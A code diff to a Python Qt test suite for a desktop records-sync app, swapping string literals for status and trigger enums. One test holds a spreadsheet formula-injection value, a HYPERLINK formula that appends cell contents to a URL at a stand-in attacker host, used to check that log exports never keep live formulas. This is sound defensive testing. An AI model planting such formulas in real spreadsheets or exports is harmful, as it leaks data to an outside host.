@@ -16,6 +16,7 @@ from pytestqt.qtbot import QtBot
 from sqlalchemy import update
 
 from anahp_desktop.demo.emulator import SinhaEmulator
+from anahp_desktop.domain.statuses import BatchStatus, Trigger
 from anahp_desktop.state import queries
 from anahp_desktop.state.schema import operations_log
 from anahp_desktop.ui import message_box
@@ -46,12 +47,12 @@ def logged(
     source_db.add_valid(1, tipo_alta="99")  # SINHA answers 422 for this one
     window = make_window(ui_context)
     with qtbot.waitSignal(window.controller.finished, timeout=SIGNAL_TIMEOUT_MS):
-        window.controller.start("scheduled")
+        window.controller.start(Trigger.SCHEDULED)
     wait_idle(qtbot, window)
     source_db.add_valid(5)
     emulator.script = ["503", "503", "503"]  # max_attempts 3: this batch fails
     with qtbot.waitSignal(window.controller.finished, timeout=SIGNAL_TIMEOUT_MS):
-        window.request_sync("manual")
+        window.request_sync(Trigger.MANUAL)
     wait_idle(qtbot, window)
     # one old row, to filter by date
     store = window.context.service.store
@@ -144,7 +145,7 @@ def test_paging_is_lazy_and_new_rows_do_not_shift_the_page(
     wait_idle(qtbot, logged)
     assert model.rowCount() == 6 and model.rows()[:3] == first_page
     with qtbot.waitSignal(logged.controller.finished, timeout=SIGNAL_TIMEOUT_MS):
-        logged.request_sync("manual")
+        logged.request_sync(Trigger.MANUAL)
     wait_idle(qtbot, logged)
     assert model.rows()[:3] == first_page  # newer rows did not push the page down
     while model.canFetchMore():
@@ -307,8 +308,8 @@ def test_an_export_never_holds_a_live_formula(tmp_path: Path, kind: str) -> None
     migrate.upgrade(engine)
     store = StateStore(engine)
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Detalhes")'
-    batch = OpenBatch("L1", "2077485", "pending", None, 1, 0, BASE_TIME)
-    store.begin_attempt(batch, "run-1", "manual", formula, mark_sending=False)
+    batch = OpenBatch("L1", "2077485", BatchStatus.PENDING, None, 1, 0, BASE_TIME)
+    store.begin_attempt(batch, "run-1", Trigger.MANUAL, formula, mark_sending=False)
     target = tmp_path / f"log.{kind}"
     assert export_log(store, queries.LogFilter(), True, target, kind) == 1
     engine.dispose()
